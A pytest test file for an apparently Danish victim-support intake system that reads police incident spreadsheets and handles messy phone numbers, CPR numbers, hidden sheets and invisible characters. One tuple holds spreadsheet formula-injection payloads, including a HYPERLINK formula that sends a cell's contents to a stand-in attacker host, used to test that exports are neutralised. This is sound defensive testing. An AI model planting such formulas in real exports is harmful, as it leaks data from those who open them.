"""Files as offices and spreadsheets have made them: what was meant is read, and what could not be is said."""

import csv
import io
import unicodedata
import zipfile
from datetime import date

import pytest
import xlsxwriter
from django.core.files.uploadedfile import SimpleUploadedFile

from brobygger.base.formulas import FORMULA
from brobygger.intake import rejecting
from brobygger.intake.models import RejectedRow
from brobygger.intake.queries import unread_numbers
from brobygger.intake.reading import FileUnreadable, understand
from brobygger.intake.shapes import shape
from brobygger.intake.tests import files
from brobygger.people.models import Person, PhoneNumber

COLUMNS = shape("incident_export").columns


def notes(summary):
    return {note["code"]: note["rows"] for note in summary.counts()["notes"]}


@pytest.mark.parametrize(
    ("column", "written", "held"),
    [
        ("role", "Forurettet\u200b", None),
        ("role", "\ufeffVidne", None),
        ("role", unicodedata.normalize("NFD", "Pårørende"), None),
        ("protected", "ja\u200b", ("protected", True)),
        ("gender", "kvinde\u200e", ("gender", "female")),
        ("offence_code", "76111\u200b", None),
        ("given_name", unicodedata.normalize("NFD", "Åse"), ("given_name", "Åse")),
        ("given_name", "\u200fسارة", ("given_name", "سارة")),
        ("email", "navn@eksempel.dk;", ("email", "navn@eksempel.dk")),
        ("email", "<navn@eksempel.dk>", ("email", "navn@eksempel.dk")),
        ("postal_code", "DK-5000", ("postal_code", "5000")),
        ("postal_code", "5000 Odense C", ("postal_code", "5000")),
        ("language", "en-GB", ("language", "en")),
        ("cpr", "630480-1234", ("birth_date", "1980-04-03")),
    ],
)
def test_what_was_meant_is_read(bring, tmp_path, column, written, held):
    summary = bring({column: written, "birth_date": ""})
    assert (summary.registrations, notes(summary)) == (1, {})
    if held:
        assert str(getattr(Person.objects.get(), held[0])) == str(held[1])


@pytest.mark.parametrize(
    ("column", "written"), [("email", "ingen"), ("gender", "ukendt"), ("postal_code", "?"), ("language", "ukendt")]
)
def test_nothing_said_in_words_is_noted_and_she_is_in(bring, column, written):
    summary = bring({column: written})
    assert (summary.people, notes(summary)) == (1, {"nothing_was_written": [2]})
    assert getattr(Person.objects.get(), column) == ""


@pytest.mark.parametrize(
    ("told", "code", "held"),
    [
        ({"cpr": "12345"}, "cpr_not_readable", ("birth_date", date(1980, 4, 3))),
        ({"cpr": "9902851234"}, "cpr_not_readable", ("birth_date", date(1980, 4, 3))),
        ({"cpr": "030403-1234", "birth_date": ""}, "cpr_not_readable", ("birth_date", None)),
        ({"cpr": "ukendt"}, "nothing_was_written", ("birth_date", date(1980, 4, 3))),
        ({"language": "klingon"}, "language_not_readable", ("language", "")),
        ({"language": "1"}, "language_not_readable", ("language", "")),
        ({"language": "Engelsk/dansk"}, "first_of_languages", ("language", "en")),
        ({"language": "klingon og arabisk"}, "first_of_languages", ("language", "ar")),
        ({"gender": "X"}, "gender_x", ("gender", "")),
        ({"guardian_of": "9"}, "ward_not_there", ("given_name", "Åse")),
    ],
)
def test_a_field_that_may_be_empty_costs_nobody_her_place(bring, told, code, held):
    summary = bring(told)
    assert (summary.people, notes(summary)) == (1, {code: [2]})
    assert getattr(Person.objects.get(), held[0]) == held[1]


def test_whether_she_is_protected_is_never_guessed(bring):
    assert bring({"protected": "ukendt"}).rejected == 1


@pytest.mark.parametrize(
    "written",
    [
        *("\u202a+45 95 00 11 01\u202c", "95\u202f00\u202f11\u202f01", "95\u201100\u201111\u201101", "95–00–11–01"),
        *(
            "95001101 (mor)",
            "+45 (0)95001101",
            "tel:+4595001101",
            "\u200b95001101",
            "4595001101,00",
            "９５００１１０１",
        ),
    ],
)
def test_a_phone_number_however_it_is_written(bring, written):
    bring({"phone": written})
    assert PhoneNumber.objects.get().number == "+4595001101"


def test_several_numbers_and_one_that_is_none(bring):
    summary = bring({"phone": "95001106; 95001206"}, {"report_number": "2", "phone": "950 001110", "given_name": "Bo"})
    assert set(PhoneNumber.objects.values_list("number", flat=True)) == {"+4595001106", "+4595001206"}
    assert notes(summary) == {"phone_not_readable": [3]}


def test_words_beside_a_number_and_a_number_that_is_none_are_kept_as_they_were_written(bring, cast):
    summary = bring(
        {"phone": "95001106 (mor); 95001206"},
        {"report_number": "2", "phone": '950 001110, "\\N" {x}', "given_name": "Bo"},
        {"report_number": "3", "phone": "95001206 - kun aften"},
    )
    told = dict(PhoneNumber.objects.values_list("number", "beside"))
    assert told == {"+4595001106": "mor", "+4595001206": "kun aften"}
    assert notes(summary) == {"words_beside_a_number": [2, 4], "phone_not_readable": [3]}
    boss = Person.objects.get(given_name="Bo")
    assert unread_numbers(cast.actor("owner"), boss.pk) == ("950 001110", '"\\N" {x}')
    assert unread_numbers(cast.actor("stranger"), boss.pk) == ()


def test_the_police_tell_whose_number_it_is_and_correct_the_one_that_was_none(bring, cast):
    bring({"phone": "95001106"}, {"person_ref": "2", "given_name": "Bo", "phone": "950 001110"})
    bring({"phone": "95001106 (mor)"}, {"person_ref": "2", "given_name": "Bo", "phone": "95001110; 95 0"})
    assert dict(PhoneNumber.objects.values_list("number", "beside")) == {"+4595001106": "mor", "+4595001110": ""}
    assert unread_numbers(cast.actor("owner"), Person.objects.get(given_name="Bo").pk) == ("95 0",)


def test_what_a_spreadsheet_does_to_a_text_file_is_put_right_and_told(bring):
    summary = bring(
        {"cpr": "102851236", "birth_date": ""},
        {"report_number": "2", "postal_code": "800"},
        {"report_number": "3", "phone": "4595006601,00"},
    )
    assert (summary.registrations, notes(summary)) == (
        3,
        {"leading_zero_put_back": [2, 3], "number_was_an_amount": [4]},
    )


FORMULAS = (
    *('=HYPERLINK("https://ond.invalid/?"&A1;"Klik")', "@SUM(1)", "-2+3", "+4595006601", "\tcmd"),
    *("＝1+1", "＠CMD(2)", "＋1", "－1"),
)


@pytest.mark.parametrize("way", ["beside", "page"])
def test_a_rejected_row_opens_without_a_live_formula_and_comes_in_with_its_words(bring, client, cast, tmp_path, way):
    rows = [{"report_number": str(n), "family_name": words, "offence_code": "x"} for n, words in enumerate(FORMULAS)]
    path = files.file(tmp_path, rows)
    summary = bring(path=path)
    if way == "page":
        client.force_login(cast.leader)
        text = client.get(f"/import/{RejectedRow.objects.first().run_id}/rejected/").content.decode("utf-8-sig")
    else:
        file, target, by = understand(path, shape("incident_export")), tmp_path / "out.csv", cast.actor("leader")
        rejecting.write_beside(target, summary.run_id, file, by=by, name="a.csv", shown=[], most=9)
        text = target.read_text("utf-8-sig")
    cells = [cell for row in list(csv.reader(io.StringIO(text), delimiter=";"))[1:] for cell in row]
    assert not [cell for cell in cells if cell and cell[:1] in FORMULA]
    path.write_text(text.replace(";x;", f";{files.VIOLENCE};"), "utf-8-sig")
    assert bring(path=path).registrations == len(FORMULAS)
    assert set(Person.objects.values_list("family_name", flat=True)) == {words.strip() for words in FORMULAS}


def sheets(tmp_path, **told):
    """A workbook: for each sheet whether it is hidden, lines above its header, and its rows."""
    book = xlsxwriter.Workbook(str(tmp_path / "a.xlsx"))
    first = None
    for name, (hidden, above, rows) in told.items():
        sheet = book.add_worksheet(name)
        for place, line in enumerate([*above, [column.title for column in COLUMNS], *map(_as_cells, rows)]):
            for left, value in enumerate(line):
                if value == "#N/A":
                    sheet.write_formula(place, left, "=NA()", None, "#N/A")
                else:
                    sheet.write(place, left, value)
        if hidden:
            sheet.hide()
        elif first is None:
            first = sheet
            sheet.activate()
            sheet.set_first_sheet()
    book.close()
    return tmp_path / "a.xlsx"


def _as_cells(row):
    return [{**files.DEFAULTS, **row}.get(column.name, "") for column in COLUMNS]


def test_lines_above_the_header_are_passed_over(bring, tmp_path):
    above = [["Udtræk"], [], ["Dato", "26-11-2026"]]
    summary = bring(path=sheets(tmp_path, Ark1=(False, above, [{}, {"offence_code": "x", "person_ref": "2"}])))
    assert (summary.registrations, RejectedRow.objects.get().row) == (1, 6)
    path = tmp_path / "a.csv"
    path.write_text("Udtræk fra sagssystemet\n\nDato;26-11-2026\n" + files.text([{"report_number": "2"}]), "utf-8-sig")
    assert bring(path=path).registrations == 1


def test_a_hidden_sheet_is_not_read(bring, tmp_path):
    told = {"Gammel": (True, [], [{"given_name": "Skjult"}]), "Ny": (False, [], [{"given_name": "Synlig"}])}
    bring(path=sheets(tmp_path, **told))
    assert Person.objects.get().given_name == "Synlig"


def test_every_sheet_with_the_columns_is_read_and_named_in_the_preview(bring, tmp_path, client, cast):
    told = {"Ark1": (False, [], [{}]), "Ny": (False, [["Udtræk"]], [{"person_ref": "2"}, {"protected": "måske"}])}
    path = sheets(tmp_path, **told, Tom=(False, [], []), Skjult=(True, [], [{"person_ref": "3"}]))
    client.force_login(cast.leader)
    file = SimpleUploadedFile("a.xlsx", path.read_bytes())
    answer = client.post("/import/", {"kind": "incidents", "programme": cast.programme.pk, "file": file})
    page = client.get(answer.url).content.decode()
    assert "Ark1, Ny" in page
    assert "række 1004: Navne- og adressebeskyttelse »måske«" in page  # the fourth of the second sheet
    summary = bring(path=path)
    assert (summary.registrations, summary.rejected) == (2, 1)
    assert RejectedRow.objects.get().row == 1004


def test_a_second_sheet_has_its_columns_in_its_own_order(bring, tmp_path):
    book = xlsxwriter.Workbook(str(tmp_path / "a.xlsx"))
    for name, columns in (("Ark1", COLUMNS), ("Ark2", COLUMNS[::-1])):
        sheet = book.add_worksheet(name)
        sheet.write_row(0, 0, [column.title for column in columns])
        sheet.write_row(1, 0, [{**files.DEFAULTS, "report_number": name}.get(one.name, "") for one in columns])
    book.close()
    assert bring(path=tmp_path / "a.xlsx").registrations == 2


@pytest.mark.parametrize("way", ["command", "page"])
def test_a_workbook_with_a_password_is_called_locked(bring, tmp_path, client, cast, way):
    path = tmp_path / "a.xlsx"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2**20 + "EncryptedPackage".encode("utf-16-le"))
    if way == "command":
        with pytest.raises(FileUnreadable, match="workbook_locked"):
            bring(path=path)
        return
    client.force_login(cast.leader)
    told = {"kind": "incidents", "programme": cast.programme.pk}
    page = client.post("/import/", told | {"file": SimpleUploadedFile("a.xlsx", path.read_bytes())}).content.decode()
    assert "Arbejdsbogen er låst med en adgangskode. Gem den uden og prøv igen." in page


@pytest.mark.parametrize("encoding", ["utf-8", "cp1252"])
def test_characters_without_meaning_cost_no_row_and_are_told_of(bring, tmp_path, encoding):
    path = files.file(tmp_path, [{}, {"person_ref": "2", "given_name": "L\0is"}], encoding=encoding)
    summary = bring(path=path)
    assert (summary.registrations, notes(summary)) == (2, {"nul_dropped": [3]})
    assert Person.objects.filter(given_name="Lis").exists()


@pytest.mark.parametrize("hyphen", ["\u2010", "\u2011", "–"])
def test_a_date_with_another_hyphen_is_read(bring, hyphen):
    told = {"birth_date": "03-04-1980", "reported_at": "15-11-2026 08:30", "cpr": "030480-1234"}
    summary = bring({name: value.replace("-", hyphen) for name, value in told.items()})
    assert (summary.registrations, notes(summary)) == (1, {})


@pytest.mark.parametrize(
    ("written", "held"),
    [
        ("Ma\u200dria", "Maria"),
        ("Ma\u200cria\u2060\u00ad", "Maria"),
        ("\u202aLis\u202c\u2066\u2069", "Lis"),
        ("می\u200cنا", "می\u200cنا"),
        ("क्\u200dष", "क्\u200dष"),
        ("👩\u200d👧", "👩\u200d👧"),
        ("👩\u200dB", "👩B"),
    ],
)
def test_what_nobody_sees_is_gone_from_a_name_and_what_a_script_needs_is_there(bring, written, held):
    bring({"given_name": written})
    assert Person.objects.get().given_name == held


def with_cell(path, old, new):
    """The workbook with the text of one cell as another program writes it."""
    with zipfile.ZipFile(path) as book:
        parts = {one.filename: book.read(one) for one in book.infolist()}
    name = "xl/worksheets/sheet1.xml"
    assert old in parts[name]
    with zipfile.ZipFile(path, "w") as book:
        for one, content in parts.items():
            book.writestr(one, content.replace(old, new) if one == name else content)
    return path


@pytest.mark.parametrize("cell", [b"<v></v>", b"<v/>", b"<v />", b""])
def test_a_formula_that_no_one_has_reckoned_is_told_of(bring, tmp_path, cell):
    """A program wrote it, and no spreadsheet has been there to put in what it comes to."""
    path = sheets(tmp_path, Ark1=(False, [], [{"family_name": "#N/A"}, {"person_ref": "2"}]))
    summary = bring(path=with_cell(path, b' t="e"><f>NA()</f><v>#N/A</v>', b"><f>NA()</f>" + cell))
    assert (summary.registrations, notes(summary)) == (2, {"cell_with_an_error": [2]})


def test_a_formula_that_comes_to_no_words_is_no_error(bring, tmp_path):
    path = sheets(tmp_path, Ark1=(False, [], [{"family_name": "#N/A"}]))
    path = with_cell(path, b' t="e"><f>NA()</f><v>#N/A</v>', b' t="str"><f>""</f><v></v>')
    assert notes(bring(path=path)) == {}


def test_each_row_with_an_error_in_a_cell_is_told_of(bring, tmp_path):
    rows = [{"family_name": "#N/A"}, {"person_ref": "2"}, {"person_ref": "3", "phone": "#N/A", "address": "#N/A"}]
    summary = bring(path=sheets(tmp_path, Ark1=(False, [], rows)))
    assert (summary.registrations, notes(summary)) == (3, {"cell_with_an_error": [2, 4]})
